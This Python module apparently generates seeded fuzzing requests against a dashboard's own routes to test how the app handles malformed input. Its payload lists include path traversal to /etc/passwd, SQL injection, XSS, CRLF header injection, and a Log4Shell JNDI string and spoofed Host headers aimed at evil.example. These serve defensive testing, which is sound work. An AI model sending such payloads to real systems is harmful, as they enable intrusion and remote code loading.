"""Requests that nobody should send, the same ones for the same seed: every address of the dashboard with random values.

An address is one of the program's own with what it may hold, a part of it replaced by something odd, written in one of
the ways in which addresses are spoilt: cut percent signs, bytes that are no UTF-8, names twice, headers that mean nothing.
"""

import random
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from urllib.parse import quote, quote_from_bytes

from starlette.routing import Route

from app import exhibits
from app.data import db, queries
from app.data.published import FUNCTIONS, OPERATORS, published_tables
from app.data.selection import Selection
from app.exhibits.address_parameters import NAMES
from app.exhibits.data_selection import API
from app.exhibits.filters import choices
from app.exhibits.tables import TABLES
from app.files import pictures, table_files
from app.files.data_files import ENDINGS
from app.navigation import ENTRIES
from app.web.api import routes
from app.web.api.v1.table_request import OWN

MARK = "xqv7"
"""Stands in what a visitor makes up; a log that holds it has written down what somebody sent."""
INJECTED = b"x-injected"
"""A header that only a request could have brought into an answer."""
_ODD: Sequence[bytes] = (
    *(b"", b"0", b"-1", b"1e999", b"NaN", b"9" * 400, "²".encode(), b"\0", b"\xff\xfe", b"\xed\xa0\x80", b"%", b"%zz"),
    *(
        b"../../../etc/passwd",
        b"..\\..\\x",
        b"'; drop table funding;--",
        b"1 or 1=1",
        b"{{7*7}} ${7*7} %s %n {0} {a.b}",
    ),
    *(b"<script>alert(1)</script>", b"\r\nX-Injected: 1\r\n\r\nHTTP/1.1 200 OK", b"\x1b[31m\nERROR forged", b","),
    *("\u202eumgedreht\u2066".encode(), "😀 שלום ﷽".encode(), "\ufeff\u200b".encode(), b"x" * 5000, b",;|" * 200),
    *(b"0000-00-00", b"10000-01-01", b"2026-02-30", b"true", b"null", b"[]", b"__proto__", b"a~b~c~9"),
)
_METHODS = ("HEAD", "OPTIONS", "POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "get", MARK)
_HEADERS: Mapping[str, Sequence[bytes]] = {
    "Range": (
        b"bytes=0-9",
        b"bytes=-1",
        b"bytes=9-1",
        b"bytes=0-0,2-3,5-",
        b"bytes=99999999999999999999-",
        b"lines=1-",
    ),
    "If-None-Match": (b"*", b'"x", W/"y"', b'"' * 3000, b"\xff"),
    "If-Modified-Since": (b"Thu, 01 Jan 1970 00:00:00 GMT", b"Fri, 31 Feb 2026 99:99:99 ???", b"-1"),
    "If-Range": (b'"x"', b"Thu, 01 Jan 1970 00:00:00 GMT"),
    "Accept-Encoding": (b"gzip", b"br;q=1, *;q=0", b"identity;q=0", b"gzip;q=NaN", b"gzip," * 500),
    "Accept": (b"text/turtle", b"application/ld+json", b"*/*;q=x", b"/", b"a/b," * 500),
    "Accept-Language": (b"ar", b"*", b"x" * 2000),
    "X-Forwarded-For": (b"unknown", b"1.2.3.4, ::1, x", b"%00", b"999.1.1.1", b"1," * 1000),
    "X-Forwarded-Proto": (b"https", b"javascript", b"https,http"),
    "X-Forwarded-Host": (b"evil.example",),
    "Forwarded": (b'for="_x";host=evil.example;proto=https',),
    "X-Request-ID": (b"abcdefgh-1", b"x" * 500, b"<b>"),
    "Origin": (b"null", b"https://evil.example", b"\xff"),
    "Cookie": (b"_streamlit_xsrf=1; _streamlit_user=2|1:0|x; entwurf=../..", b"=;;=", b"a=" + b"x" * 3000),
    "Content-Type": (b"application/json", b"multipart/form-data; boundary=", b"text/html; charset=\xff"),
    "Access-Control-Request-Method": (b"DELETE", b"x"),
    "Sec-Fetch-Site": (b"cross-site",),
    "Authorization": (b"Basic Og==", b"Bearer " + MARK.encode()),
    "User-Agent": (MARK.encode(), b"${jndi:ldap://evil.example/a}", b""),
}
_HOSTS = (b"evil.example", b"", b"[", b"a@b", b"localhost:99999", b"x" * 300, b"127.0.0.1")
_STREAMLIT = (
    *("health", "host-config", "allowed-message-origins", "script-health-check", "metrics", "stream"),
    *("upload_file/{text}/{text}", "agent/interact", "agent/mcp", "agent/openapi.json", "bidi-components/{text}/x.js"),
)
"""Addresses of Streamlit's own, below ``/_stcore``."""


@dataclass(frozen=True)
class Request:
    """One request as it goes over the wire."""

    kind: str
    """What it asks for, of a few names."""
    method: str
    target: bytes
    """Path and query, as they are written."""
    headers: tuple[tuple[str, bytes], ...] = ()
    body: bytes = b""


class Addresses:
    """Requests about the release that is served; the same seed gives the same ones."""

    def __init__(self, seed: int) -> None:
        self._chance = random.Random(seed)
        release_id = db.current_release()
        stands = [str(day.date()) for day in queries.stands(release_id).stand_date]
        everything = Selection(release_id, queries.release(release_id).stand_date.date())
        self._tables = {table.name: table.names for table in published_tables(release_id)}
        indicators = queries.indicators(everything)
        known = choices(everything)
        self._values: dict[str, list[str]] = {
            **{name: list(keys) for name, keys in known.items()},
            "stand": [*stands, "alle"],
            "bild": [found.slug for found in exhibits.EXHIBITS],
            "thema": indicators.topic.tolist(),
            "indikator": indicators.name.tolist(),
            "projekt": queries.project_rows(everything).page(1, size=50).project_id.tolist(),
            "daten": list(self._tables),
            "veroeffentlichung": [release_id],
            "orte": [",".join(list(known["kommune"])[:3])],
            "seite": ["1", "2", "99"],
            "abfrage": ["select 1", "select * from current_funding limit 5", "select", "drop table funding"],
            "release": [release_id, "latest"],
            "format": [*table_files.KINDS, *pictures.FORMATS],
            "kind": [*ENDINGS, *pictures.KINDS, "ttl", "rdf", "jsonld"],
            "embed": ["true"],
            "limit": ["1", "50"],
        }
        self._templates = list(dict.fromkeys(route.path for route in routes() if isinstance(route, Route)))

    def pages(self) -> Iterator[Request]:
        """Addresses of pages, charts alone and files, and of what there is not; without end."""
        kinds: dict[Callable[[], bytes], int] = {self._page: 5, self._machine: 9, self._streamlit: 2, self._nothing: 1}
        while True:
            make = self._chance.choices(list(kinds), list(kinds.values()))[0]
            path = make()
            names = [*NAMES, "format", "schlicht", "umrisse", "fuer", "breite", *self._condition_names()]
            yield self._request(make.__name__.strip("_"), path, self._query(names))

    def interface(self) -> Iterator[Request]:
        """Calls of the programming interface; without end."""
        while True:
            table = self._chance.choice(list(self._tables))
            if self._is(0.8):
                path, columns = f"{API}/tables/{table}", self._tables[table]
                names = [*OWN, *self._values, *(f"{column}__{o}" for column in columns for o in (*OPERATORS, "x"))]
                yield self._request("table", path.encode(), self._query(names, columns))
            else:
                rest = self._chance.choice(("", "/", "/tables", "/releases", "/releases/{release}", "/openapi.json"))
                path = (API + (rest if self._is(0.7) else "/releases/{release}/{text}")).format(
                    release=self._chance.choice(self._values["release"]), text=self._text(0.5)
                )
                yield self._request("interface", path.encode(), self._query(OWN))

    def _is(self, share: float) -> bool:
        return self._chance.random() < share

    def _page(self) -> bytes:
        address = self._chance.choice(ENTRIES).address
        if self._is(0.1):
            address = self._chance.choice(
                (address.upper(), f"{address}/", f"{address}.", f"//{address}", f"./{address}")
            )
        return f"/{address}".encode()

    def _machine(self) -> bytes:
        template = self._chance.choice(self._templates)
        # Made by a process of several seconds: one in many says the same as all.
        while "sitzungsmappe" in template and self._is(0.9):
            template = self._chance.choice(self._templates)
        return re.sub(r"\{(\w+)(?::\w+)?\}", lambda found: self._part(found[1]), template).encode()

    def _part(self, name: str) -> str:
        if self._is(0.2):
            return self._text(0.5)
        slugs = [found.slug for found in (*exhibits.EXHIBITS, *TABLES)]
        lists = {"slug": slugs, "name": [*self._tables, "funding.csv"], "release_id": self._values["release"]}
        return str(self._chance.choice(lists.get(name) or self._values.get(name) or ["x"]))

    def _streamlit(self) -> bytes:
        begin = self._chance.choice(
            ("/_stcore/", "/_stcore/", "/media/", "/component/", "/static/", "/app/static/", "/auth/")
        )
        rest = self._chance.choice(_STREAMLIT) if begin == "/_stcore/" else "{text}"
        return (begin + rest.format(text=self._text(1))).encode()

    def _nothing(self) -> bytes:
        return b"/" + self._text(1).encode()

    def _text(self, share: float) -> str:
        """Something odd as it would stand in a path; with the other share something plain."""
        if not self._is(share):
            return f"{MARK}{self._chance.randrange(100)}"
        return self._written(self._chance.choice(_ODD)).decode("latin-1")

    def _condition_names(self) -> list[str]:
        table = self._chance.choice(list(self._tables))
        return [f"{column}__{self._chance.choice(OPERATORS)}" for column in self._chance.sample(self._tables[table], 1)]

    def _query(self, names: Sequence[str], columns: Sequence[str] = ()) -> bytes:
        """What stands behind the question mark: some names with values, written in one way or another."""
        found = []
        for name in self._chance.choices(names, k=self._chance.choice((0, 1, 1, 2, 3, 6))):
            base = name.partition("__")[0]
            usual: Sequence[str] = self._values.get(name, ())
            if not usual and columns:
                usual = columns if name in ("columns", "sort", "group_by", *FUNCTIONS) else (base, "1", "2026-01-01")
            if usual and self._is(0.6):
                value = str(self._chance.choice(usual)).encode()
            else:
                value = self._chance.choice((*_ODD, MARK.encode()))
            key = name.encode() if self._is(0.95) else self._chance.choice(_ODD)[:300]
            found += [self._written(key) + b"=" + self._written(value)] * (2 if self._is(0.05) else 1)
        joint = b"&" if self._is(0.9) else self._chance.choice((b";", b"&&", b"&=&", b"?", b"&amp;"))
        return joint.join(found)

    def _written(self, value: bytes) -> bytes:
        """Bytes as they may stand in an address: right most of the time."""
        ways: tuple[Callable[[bytes], str], ...] = (
            *(quote_from_bytes,) * 7,
            lambda text: quote(quote_from_bytes(text)),
            lambda text: re.sub(r"[\x00-\x20\x7f-\U0010ffff]", "", text.decode("latin-1")),
            lambda text: quote_from_bytes(text)[:-1],
            lambda text: "".join(f"%{byte:02x}" for byte in text[:500]),
        )
        return self._chance.choice(ways)(value).encode("latin-1", "replace")

    def _request(self, kind: str, path: bytes, query: bytes) -> Request:
        target = path + (b"?" + query if query else b"")
        method = "GET" if self._is(0.85) else self._chance.choice(_METHODS)
        headers = [
            (name, self._chance.choice(_HEADERS[name]))
            for name in self._chance.sample(list(_HEADERS), self._chance.choice((0, 0, 1, 1, 2, 4)))
        ]
        if self._is(0.05):
            headers.append(("Host", self._chance.choice(_HOSTS)))
        body = b""
        if method in ("POST", "PUT", "PATCH", "DELETE") and self._is(0.7):
            body = self._chance.randbytes(self._chance.choice((1, 300, 70_000)))
        return Request(kind, method, target, tuple(headers), body)
